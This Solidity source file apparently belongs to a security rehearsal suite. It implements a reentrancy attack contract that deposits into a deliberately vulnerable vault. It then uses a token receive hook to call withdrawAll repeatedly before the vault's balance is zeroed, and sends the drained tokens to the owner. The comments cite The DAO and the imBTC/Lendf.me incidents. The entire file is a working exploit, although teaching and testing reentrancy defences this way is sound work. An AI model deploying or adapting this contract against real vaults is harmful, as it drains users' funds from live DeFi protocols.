// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {HookToken, ITokenReceiverHook} from "../world/HookToken.sol";
import {VulnerableCallbackVault} from "../vulnerable/VulnerableCallbackVault.sol";

/// @title CallbackReentrancyAttack
/// @notice REHEARSAL ATTACK (The DAO 2016; imBTC on Uniswap v1 and Lendf.me, April 2020): deposit, then
///         withdraw everything; the token calls this contract back on receipt and it withdraws again
///         before the vault zeroes its balance, `frames` times per transaction.
contract CallbackReentrancyAttack is ITokenReceiverHook {
    address public immutable owner;
    VulnerableCallbackVault public immutable vault;
    HookToken public immutable token;
    uint256 private _depth;
    uint256 private _frames;

    /// @notice One round ran: `taken` tokens sent to the owner.
    event Round(uint256 deposited, uint256 frames, uint256 taken);

    error NotOwner();

    /// @param vault_ The victim vault.
    constructor(VulnerableCallbackVault vault_) {
        owner = msg.sender;
        vault = vault_;
        token = HookToken(address(vault_.asset()));
        token.registerHook(true);
    }

    /// @notice Deposit `amount` (held by this contract), then withdraw it `frames` times re-entrantly.
    function attack(uint256 amount, uint256 frames) external {
        if (msg.sender != owner) revert NotOwner();
        token.approve(address(vault), amount);
        vault.deposit(amount);
        _frames = frames;
        _depth = 1;
        vault.withdrawAll();
        _depth = 0;
        uint256 taken = token.balanceOf(address(this));
        emit Round(amount, frames, taken);
    }

    /// @notice Send everything this contract holds to the owner.
    function cashOut() external {
        if (msg.sender != owner) revert NotOwner();
        token.transfer(owner, token.balanceOf(address(this)));
    }

    /// @inheritdoc ITokenReceiverHook
    function tokensReceived(address from, uint256) external {
        if (msg.sender != address(token) || from != address(vault) || _depth == 0 || _depth >= _frames) return;
        if (token.balanceOf(address(vault)) < vault.balanceOf(address(this))) return;
        ++_depth;
        vault.withdrawAll();
    }
}
